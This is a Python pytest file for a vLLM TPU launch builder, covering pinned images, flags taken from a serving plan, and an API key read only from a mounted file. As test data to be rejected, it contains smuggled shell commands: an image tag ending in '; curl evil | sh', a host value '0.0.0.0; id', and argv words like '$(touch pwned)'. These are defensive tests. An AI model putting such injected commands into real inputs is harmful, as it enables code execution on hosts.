"""The one vLLM launch: argv and env from a plan, pinned image, API key from a file only."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from shared.domain.errors import InvalidMessage
from shared.domain.launch import (
    API_KEY_FILE,
    DEFAULT_IMAGE,
    EngineConfig,
    build_launch,
    check_image,
    key_wrapper,
)
from shared.domain.models import ACCELERATOR_TYPES, MODEL_PRESET_NAMES, DeploymentSpec
from shared.domain.serving_plan import ServingEnvironment, build_serving_plan

ENVIRONMENT = ServingEnvironment(project="tpuctl-test")


def engine(**overrides: object) -> EngineConfig:
    values: dict[str, object] = {
        "model": "google/gemma-4-31B-it",
        "served_name": "gemma-4-31b",
        "tensor_parallel": 4,
        "max_model_len": 8192,
        "max_num_seqs": 128,
        "max_num_batched_tokens": 4096,
        "gpu_memory_utilization": 0.9,
        "kv_cache_dtype": "auto",
        "weight_dtype": "bfloat16",
        "block_size": 32,
    }
    values.update(overrides)
    return EngineConfig(**values)  # type: ignore[arg-type]


def flags(argv: tuple[str, ...]) -> dict[str, str]:
    """``--name value`` pairs (flags without a value map to "")."""
    out: dict[str, str] = {}
    words = list(argv[3:])
    while words:
        name = words.pop(0)
        out[name] = words.pop(0) if words and not words[0].startswith("--") else ""
    return out


@pytest.mark.parametrize("accelerator", ACCELERATOR_TYPES)
@pytest.mark.parametrize("model", MODEL_PRESET_NAMES)
def test_every_preset_and_slice_launches_from_one_pinned_image_without_secrets(model: str, accelerator: str) -> None:
    spec = DeploymentSpec(deployment_id="launch-check", model=model, accelerator=accelerator, zones=("us-east5-b",))
    plan = build_serving_plan(spec, ENVIRONMENT)
    launch = plan.launch
    words = " ".join((launch.image, *launch.command, *launch.argv, *(f"{k}={v}" for k, v in launch.env)))
    assert launch.image == DEFAULT_IMAGE
    assert "nightly" not in words and "latest" not in words
    assert "--api-key" not in launch.argv
    assert not {"HF_TOKEN", "VLLM_API_KEY", "HUGGING_FACE_HUB_TOKEN"} & set(launch.env_dict())
    parsed = flags(launch.argv)
    assert launch.argv[:3] == ("vllm", "serve", plan.preset.hub_id)
    assert parsed["--tensor-parallel-size"] == str(plan.slice.chips)
    assert parsed["--max-model-len"] == str(plan.capacity.max_model_len)
    assert parsed["--block-size"] == str(plan.capacity.block_size)
    assert parsed["--served-model-name"] == model
    env = launch.env_dict()
    assert env["HF_HUB_OFFLINE"] == "1"
    assert int(env["VLLM_ENGINE_READY_TIMEOUT_S"]) >= 1800
    assert env["VLLM_XLA_CACHE_PATH"].startswith(launch.vllm_cache_dir)
    assert env["VLLM_CACHE_ROOT"] == launch.vllm_cache_dir, "every compile cache under the one mounted directory"
    assert launch.served_name == model


def test_the_reference_configuration_gets_the_reference_flags_from_one_function() -> None:
    launch = build_launch(
        engine(
            model="google/gemma-4-26B-A4B-it",
            served_name="gemma-4-26b-a4b",
            max_model_len=16384,
            max_num_seqs=256,
            gpu_memory_utilization=0.8,
            kv_cache_dtype="fp8",
            weight_dtype="fp8",
            tool_parser="gemma4",
            reasoning_parser="gemma4",
            multimodal=True,
            fp8_env=(("MOE_REQUANTIZE_WEIGHT_DTYPE", "float8_e4m3fn"),),
        )
    )
    parsed = flags(launch.argv)
    assert parsed["--kv-cache-dtype"] == "fp8"
    assert parsed["--gpu-memory-utilization"] == "0.80"
    assert parsed["--tool-call-parser"] == parsed["--reasoning-parser"] == "gemma4"
    assert "--enable-auto-tool-choice" in parsed and "--disable-chunked-mm-input" in parsed
    assert parsed["--quantization"] == "fp8"
    assert launch.env_dict()["MOE_REQUANTIZE_WEIGHT_DTYPE"] == "float8_e4m3fn"


def test_bf16_weights_need_no_quantisation_flag_or_fp8_env() -> None:
    launch = build_launch(engine(fp8_env=(("MOE_REQUANTIZE_WEIGHT_DTYPE", "float8_e4m3fn"),)))
    assert "--quantization" not in launch.argv
    assert "MOE_REQUANTIZE_WEIGHT_DTYPE" not in launch.env_dict()


def test_a_pinned_revision_reaches_vllm() -> None:
    launch = build_launch(engine(revision="0123456789abcdef0123456789abcdef01234567"))
    assert flags(launch.argv)["--revision"] == "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    "image",
    [
        "vllm/vllm-tpu:latest",
        "vllm/vllm-tpu:nightly",
        "vllm/vllm-tpu:nightly-20261001-abc1234-def5678",
        "vllm/vllm-tpu",
        "vllm/vllm-tpu:v0.32.0; curl evil | sh",
        "VLLM/vllm-tpu:v0.32.0",
        "vllm/vllm-tpu:v0.32.0\n",
    ],
)
def test_moving_or_malformed_images_are_refused(image: str) -> None:
    with pytest.raises(InvalidMessage) as raised:
        check_image(image)
    assert raised.value.field == "image"


@pytest.mark.parametrize("image", ["vllm/vllm-tpu:v0.32.0", "us-docker.pkg.dev/p/r/vllm-tpu@sha256:" + "a" * 64])
def test_release_tags_and_digests_are_accepted(image: str) -> None:
    assert check_image(image) == image


@pytest.mark.parametrize(
    ("overrides", "field"),
    [({"host": "0.0.0.0; id"}, "host"), ({"port": 80}, "port"), ({"kv_cache_dtype": "int8"}, "serving.kv_cache_dtype")],
)
def test_engine_values_are_validated(overrides: dict[str, object], field: str) -> None:
    with pytest.raises(InvalidMessage) as raised:
        engine(**overrides)
    assert raised.value.field == field


class TestKeyWrapper:
    """The container command: key file -> VLLM_API_KEY of vLLM only; argv passed through untouched."""

    def run(self, key_file: Path, *argv: str) -> subprocess.CompletedProcess[str]:
        probe = 'printf "%s" "$VLLM_API_KEY"; for word in "$@"; do printf "|%s" "$word"; done'
        return subprocess.run(
            ["/bin/sh", "-c", key_wrapper(str(key_file)), "tpuctl-vllm", "/bin/sh", "-c", probe, "probe", *argv],
            capture_output=True,
            text=True,
            timeout=10,
            check=False,
            env={"PATH": "/usr/bin:/bin"},
        )

    def test_the_key_reaches_the_process_environment_and_argv_is_not_reparsed(self, tmp_path: Path) -> None:
        key_file = tmp_path / "vllm-api-key"
        key_file.write_text("sk-canary-7f3a\n")
        hostile = ["$(touch pwned)", "a b", "'; id; '", "--api-key"]
        result = self.run(key_file, *hostile)
        assert result.returncode == 0, result.stderr
        assert result.stdout == "sk-canary-7f3a|" + "|".join(hostile)
        assert not (tmp_path / "pwned").exists()

    def test_a_missing_key_stops_the_start_instead_of_serving_unauthenticated(self, tmp_path: Path) -> None:
        result = self.run(tmp_path / "absent")
        assert result.returncode == 78
        assert "API key file" in result.stderr
        assert result.stdout == ""

    def test_the_default_wrapper_reads_the_mounted_key_path(self) -> None:
        assert API_KEY_FILE in build_launch(engine()).command[2]


def test_prefix_caching_is_said_only_when_the_plan_chose_it() -> None:
    default = build_launch(engine()).argv
    on = build_launch(engine(prefix_caching=True)).argv
    off = build_launch(engine(prefix_caching=False)).argv
    assert "--enable-prefix-caching" not in default and "--no-enable-prefix-caching" not in default
    assert on.count("--enable-prefix-caching") == 1 and "--no-enable-prefix-caching" not in on
    assert off.count("--no-enable-prefix-caching") == 1 and "--enable-prefix-caching" not in off
    assert [word for word in on if word != "--enable-prefix-caching"] == list(default), "nothing else moves"
